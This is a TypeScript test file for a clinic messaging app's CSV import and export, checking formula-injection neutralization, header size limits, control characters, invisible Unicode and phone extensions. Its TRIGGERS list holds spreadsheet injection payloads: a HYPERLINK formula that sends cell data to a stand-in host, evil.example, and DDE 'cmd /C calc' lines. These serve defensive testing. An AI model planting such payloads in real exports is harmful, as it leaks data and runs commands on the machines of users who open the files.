import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiClient, errorOf, jobReaches, messageReaches, orgWithStaff, smsClinic, startTestServer, type TestServer, uploadCsv } from '../harness.js';

/**
 * Issue 9, items 9, 13 and 15 for files: every CSV we write is spreadsheet-safe (header row
 * included), what an import keeps of a header stays small, a NUL in a cell is a row problem and
 * never a failed import, invisible characters cannot make a second patient, extensions are refused.
 */

let server: TestServer;
beforeAll(async () => {
  // Room for the 10 MB header cell below.
  server = await startTestServer({ importMaxBytes: 16 * 1024 * 1024 });
});
afterAll(async () => {
  await server?.stop();
});

type User = { token: string; api: ApiClient };

async function dryRun(user: User, csv: string, name?: string) {
  const upload = await uploadCsv(server, user.token, csv, name);
  expect(upload.status, upload.body.error).toBe(201);
  return jobReaches(user.api, upload.body.jobId!, ['ready', 'invalid', 'failed']);
}

async function importAll(user: User, csv: string) {
  const job = await dryRun(user, csv);
  expect(job.status).toBe('ready');
  await user.api.imports.confirm.mutate({ jobId: job.id });
  return jobReaches(user.api, job.id, ['completed', 'failed', 'cancelled']);
}

/** A cell a spreadsheet would run: starts with = + - @, tab or CR. */
const LIVE = /^[=+\-@\t\r]/;
/** One payload per formula trigger. */
const TRIGGERS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const csvLine = (cells: string[]) => Papa.unparse([cells], { quotes: true });

describe('CSV exports are spreadsheet-safe, header row included', () => {
  it('the import report neutralizes every cell starting with = + - @ tab or CR, in the header and in the rows', async () => {
    const { member } = await orgWithStaff(server, 'Formula Clinic');
    const csv = [csvLine(['phone', 'mrn', ...TRIGGERS]), csvLine(['not a phone', 'M-1', ...TRIGGERS]), csvLine(['=1+1', '+1+1', ...TRIGGERS])].join('\r\n');
    const job = await dryRun(member, csv);
    expect(job.status).toBe('ready');
    const res = await fetch(`${server.url}/api/imports/${job.id}/report.csv`, { headers: { authorization: `Bearer ${member.token}` } });
    expect(res.status).toBe(200);
    const rows = Papa.parse<string[]>((await res.text()).replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expect(rows).toHaveLength(3);
    const live = rows.flatMap((row, r) => row.filter((cell) => LIVE.test(cell)).map((cell) => `row ${r + 1}: ${JSON.stringify(cell)}`));
    expect(live).toEqual([]);
    // Inert, not lost: each payload is there behind the apostrophe (headers are stored trimmed).
    expect(rows[0]).toContain(`'${TRIGGERS[0]}`);
    expect(rows[0]).toContain(`'${TRIGGERS[3]}`);
    expect(rows[0]).toContain("'=1+1"); // the tab/CR header cells, trimmed, still neutralized
    for (const payload of TRIGGERS) expect(rows[1]).toContain(`'${payload}`);
    expect(rows[2]!.slice(3, 5)).toEqual(["'=1+1", "'+1+1"]);
  });

  it('the phone log neutralizes patient-controlled cells and keeps E.164 From/To as they are', async () => {
    const clinic = await smsClinic(server, '+14155550142', 'Log Formula Clinic');
    await clinic.member.api.patients.update.mutate({ patientId: clinic.patient.id, firstName: '@SUM(1+1)', lastName: '-2+3', email: 'amina@example.com' });
    const sent = await clinic.member.api.conversations.send.mutate({ conversationId: clinic.conversationId, body: 'Hello' });
    await messageReaches(server, sent.messageId, ['delivered']);
    const res = await fetch(`${server.url}/api/numbers/${clinic.number.id}/phone-log.csv`, { headers: { authorization: `Bearer ${clinic.owner.token}` } });
    const rows = Papa.parse<string[]>((await res.text()).replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual(['Sent', 'From', 'To', 'First', 'Last', 'Dob', 'Email', 'Status', 'ErrorCode', 'ErrorMessage']);
    expect(rows[1]!.slice(1, 5)).toEqual([clinic.number.e164, '+14155550142', "'@SUM(1+1)", "'-2+3"]);
  });
});

describe('what an import keeps of its header stays small', () => {
  const sizeOf = (value: unknown) => JSON.stringify(value).length;

  it('a 10 MB header cell: imports.get and imports.list answer in under 64 KB', async () => {
    const { member } = await orgWithStaff(server, 'Wide Header Clinic');
    const job = await dryRun(member, `phone,${'A'.repeat(10 * 1024 * 1024)}\n4155550100,x\n`);
    expect(job.status).toBe('ready');
    const got = await member.api.imports.get.query({ jobId: job.id });
    expect(sizeOf(got)).toBeLessThan(64 * 1024);
    expect(got.report!.header.unrecognized).toHaveLength(1);
    expect(got.report!.header.unrecognized[0]!.header.length).toBeLessThanOrEqual(101);
    expect(sizeOf(await member.api.imports.list.query())).toBeLessThan(64 * 1024);
    // Uploading and reading 10 MB: ~26 s on PostgreSQL and up to 82 s on PGlite on a busy 2-core machine (CI's load).
  }, 180_000);

  it('a 10,000-column file is refused with a clear message, and the answers stay under 64 KB', async () => {
    const { member } = await orgWithStaff(server, 'Many Columns Clinic');
    const header = ['phone', ...Array.from({ length: 9_999 }, (_, i) => `extra_column_number_${i}`)];
    const job = await dryRun(member, `${header.join(',')}\n4155550100\n`);
    expect(job.status).toBe('invalid');
    expect(job.report!.header.errors.join(' ')).toMatch(/10,000 columns; an import reads at most 200/);
    expect(sizeOf(await member.api.imports.get.query({ jobId: job.id }))).toBeLessThan(64 * 1024);
    expect(sizeOf(await member.api.imports.list.query())).toBeLessThan(64 * 1024);
    // The list still says why (its first header error), the job page has the findings.
    expect((await member.api.imports.list.query())[0]!.report!.header.errors[0]).toMatch(/10,000 columns/);
  });
});

describe('control characters in a CSV', () => {
  it('a NUL in a cell is a row problem (the rest imports), and a NUL in the header or file name is dropped, never a failure', async () => {
    const { member } = await orgWithStaff(server, 'Nul Clinic');
    const upload = await uploadCsv(server, member.token, 'phone,mrn,first_name,no\u0000te\n4155550100,M1,A\u0000nn,x\n4155550101,M2,Bob,y\n', 'nul\u0000.csv');
    expect(upload.status).toBe(201);
    const job = await jobReaches(member.api, upload.body.jobId!, ['ready', 'invalid', 'failed']);
    expect(job.status).toBe('ready');
    expect(job.fileName).toBe('nul.csv');
    expect(job.report!.header.columns).toEqual(['phone', 'mrn', 'first_name', 'note']);
    expect(job.report!.dryRun).toMatchObject({ total: 2, created: 1, rejected: 1 });
    const { issues } = await member.api.imports.issues.query({ jobId: job.id, page: 1, pageSize: 50 });
    expect(issues).toEqual([expect.objectContaining({ line: 2, severity: 'error', message: expect.stringMatching(/Column 3 \(first_name\) contains a control character \(U\+0000\)/) })]);
    await member.api.imports.confirm.mutate({ jobId: job.id });
    expect((await jobReaches(member.api, job.id, ['completed', 'failed'])).applied).toEqual({ created: 1, updated: 0, unchanged: 0, rejected: 1 });
    const report = await (await fetch(`${server.url}/api/imports/${job.id}/report.csv`, { headers: { authorization: `Bearer ${member.token}` } })).text();
    expect(report).not.toContain('\u0000');
    expect(report).toContain('Ann');
  });
});

describe('invisible characters and extensions in imported patients', () => {
  it('MRN-0001 with a zero-width space or a bidi override is the same patient: importing twice makes no second one', async () => {
    const { member } = await orgWithStaff(server, 'Zero Width Clinic');
    await importAll(member, 'phone,mrn,first_name,last_name\n4155550100,MRN-0001,Amina,Patel\n');
    const second = await importAll(member, 'phone,mrn,first_name,last_name\n4155550100,MRN-0001\u200b,Am\u200bina,\u202ePatel\n');
    expect(second.applied).toMatchObject({ created: 0, rejected: 0 });
    const third = await importAll(member, 'phone,mrn,first_name,last_name\n4155550100,ＭＲＮ－０００１,Amina,Patel\n');
    expect(third.applied).toMatchObject({ created: 0, rejected: 0 });
    const { patients } = await member.api.patients.list.query({});
    expect(patients.map((p) => [p.mrn, p.firstName, p.lastName])).toEqual([['MRN-0001', 'Amina', 'Patel']]);
  });

  it('a phone with an extension is refused with a message that says so, not imported without it', async () => {
    const { member } = await orgWithStaff(server, 'Extension Clinic');
    const job = await dryRun(member, 'phone,first_name\n555-123-4567 ext. 12,Amina\n555-123-4568 x12,Jordan\n4155550100,Lee\n');
    expect(job.report!.dryRun).toMatchObject({ created: 1, rejected: 2 });
    const { issues } = await member.api.imports.issues.query({ jobId: job.id, page: 1, pageSize: 50 });
    expect(issues.map((i) => i.message)).toEqual([expect.stringMatching(/"555-123-4567 ext\. 12" has an extension \(ext\. 12\)/), expect.stringMatching(/has an extension \(x12\)/)]);
    expect((await errorOf(member.api.patients.create.mutate({ firstName: 'Ext', phone: '555-123-4567 ext. 12' }))).message).toMatch(/has an extension/);
  });
});
